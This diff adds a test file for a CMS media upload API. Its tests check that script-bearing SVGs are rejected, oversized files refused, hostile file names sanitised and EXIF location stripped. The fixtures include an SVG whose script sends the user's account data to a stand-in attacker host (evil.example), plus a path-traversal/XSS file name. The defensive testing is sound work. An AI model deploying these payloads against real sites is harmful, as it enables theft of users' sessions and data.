@@ -1,0 +1,87 @@
+/**
+ * Uploads through the REST API as an editor's browser sends them: SVG (script
+ * risk) refused however it is labelled, oversized files refused with 413, file
+ * names made safe, and EXIF (GPS location) gone from every stored size.
+ */
+import fs from 'node:fs'
+import path from 'node:path'
+import type { Payload } from 'payload'
+import sharp from 'sharp'
+import { beforeAll, describe, expect, it } from 'vitest'
+
+import { makePerson, type Person } from '../helpers/fixtures'
+import { testPayload } from '../helpers/payload'
+import { rest } from '../helpers/rest'
+
+let payload: Payload
+let staff: Person
+
+beforeAll(async () => {
+  payload = await testPayload()
+  staff = await makePerson(payload, 'staff')
+})
+
+const SCRIPTED_SVG = `<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">
+  <script>fetch('/api/users/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
+  <rect width="10" height="10"/>
+</svg>`
+
+function upload(bytes: Buffer | string, name: string, type: string) {
+  const form = new FormData()
+  form.append('file', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name)
+  form.append('_payload', JSON.stringify({ alt: 'upload test' }))
+  return rest('POST', '/media', { token: staff.token, body: form, headers: { 'Accept-Language': 'en' } })
+}
+
+const mediaCount = async () => (await payload.count({ collection: 'media', overrideAccess: true })).totalDocs
+const message = async (response: Response) => ((await response.json()) as { errors: { message: string }[] }).errors[0].message
+
+describe('uploads', () => {
+  it('refuses an SVG with a script, as .svg and disguised as a .png, storing nothing', async () => {
+    const before = await mediaCount()
+    const asSvg = await upload(SCRIPTED_SVG, 'logo.svg', 'image/svg+xml')
+    expect(asSvg.status).toBe(400)
+    expect(await message(asSvg)).toMatch(/invalid|not allowed|type/i)
+
+    const disguised = await upload(SCRIPTED_SVG, 'logo.png', 'image/png')
+    expect(disguised.status).toBe(400)
+    expect(await mediaCount()).toBe(before)
+  })
+
+  it('refuses a file over 10 MB with 413 and says so', async () => {
+    const before = await mediaCount()
+    const header = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).png().toBuffer()
+    const oversized = Buffer.concat([header, Buffer.alloc(11 * 1024 * 1024)])
+    const response = await upload(oversized, 'huge.png', 'image/png')
+    expect(response.status).toBe(413)
+    expect(await message(response)).toMatch(/larger than 10 MB/)
+    expect(await mediaCount()).toBe(before)
+  })
+
+  it('stores a hostile file name as a plain, safe one', async () => {
+    const image = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#123456' } }).png().toBuffer()
+    const response = await upload(image, '../../<img src=x onerror=alert(1)>.png', 'image/png')
+    expect(response.status).toBe(201)
+    const { doc } = (await response.json()) as { doc: { filename: string } }
+    expect(doc.filename).toMatch(/^[\p{L}\p{N}_-]+\.webp$/u)
+    expect(fs.existsSync(path.join(process.env.MEDIA_DIR!, doc.filename))).toBe(true)
+  })
+
+  it('keeps no EXIF location in the stored image or its sizes', async () => {
+    const withGps = await sharp({ create: { width: 2200, height: 1400, channels: 3, background: '#88aa44' } })
+      .jpeg()
+      .withExif({ IFD0: { Make: 'PhoneMaker' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '37/1 33/1 0/1' } })
+      .toBuffer()
+    expect((await sharp(withGps).metadata()).exif).toBeDefined()
+
+    const response = await upload(withGps, 'house.jpg', 'image/jpeg')
+    expect(response.status).toBe(201)
+    const { doc } = (await response.json()) as { doc: { filename: string; sizes: Record<string, { filename: string }> } }
+    const files = [doc.filename, doc.sizes.thumbnail.filename, doc.sizes.fullsize.filename]
+    for (const file of files) {
+      const metadata = await sharp(path.join(process.env.MEDIA_DIR!, file)).metadata()
+      expect(metadata.exif, file).toBeUndefined()
+    }
+  })
+})
